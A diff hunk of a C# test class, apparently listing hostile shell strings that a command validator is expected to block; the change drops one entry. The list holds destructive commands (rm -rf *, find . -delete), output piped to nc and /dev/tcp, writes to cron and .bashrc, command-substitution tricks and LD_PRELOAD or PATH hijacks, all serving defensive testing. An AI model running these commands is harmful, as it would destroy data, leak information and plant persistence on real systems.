@@ -13,7 +13,7 @@ public sealed class AttackTests
         "echo / | xargs rm -rf", "xargs rm -rf", "find . -exec rm -rf {} +", "find . -delete", "find . -fprint /tmp/x", "find /srv -name x -exec rm {} \\;", "rm -rf \"$DIR\"", "rm -rf \"$DIR/\"", "rm -rf $DIR/*",
         "rm -rf *", "rm -rf .", "rm -rf ..", "rm -rf ./*", "rm -rf $(cat list)", "docker ps & docker kill x", "docker ps; docker kill x", "docker ps\ndocker kill x", "docker ps | nc h 1", "docker kill x",
         "docker ps > /etc/cron.d/x", "docker ps > $X", "docker ps > x", "docker ps >> x", "docker ps >| x", "docker ps 2> x", "docker ps &> x", "docker ps >& x", "docker ps <> x", "docker ps < x",
-        "docker ps > /dev/tcp/1.2.3.4/80", "docker ps > ~/.bashrc", "docker logs $(id)", "docker logs `id`", "docker logs ${X}", "docker logs $X", "docker logs *", "docker logs ~", "docker logs {a,b}",
+        "docker ps > /dev/tcp/1.2.3.4/80", "docker ps > ~/.bashrc", "docker logs $(id)", "docker logs `id`", "docker logs ${X}", "docker logs $X", "docker logs *", "docker logs {a,b}",
         "docker logs <(docker kill x)", "docker logs $'x'", "docker logs $\"x\"", "docker logs $((1+1))", "PATH=/tmp docker ps", "LD_PRELOAD=/tmp/x.so docker ps", "LD_LIBRARY_PATH=x docker ps", "IFS=x docker ps",
         "BASH_ENV=x docker ps", "ENV=x docker ps", "GIT_SSH_COMMAND=x git log", "GIT_PAGER=x git log", "PROMPT_COMMAND=x docker ps", "PYTHONSTARTUP=x python3 x", "NODE_OPTIONS=x docker ps", "PERL5OPT=x docker ps",
         "DOCKER_HOST=tcp://x docker ps", "env PATH=/tmp docker ps", "env LD_PRELOAD=x docker ps", "sudo LD_PRELOAD=x docker ps", "export PATH=/tmp", "PATH=/tmp; docker ps", "FOO=bar docker ps", "FOO=bar",
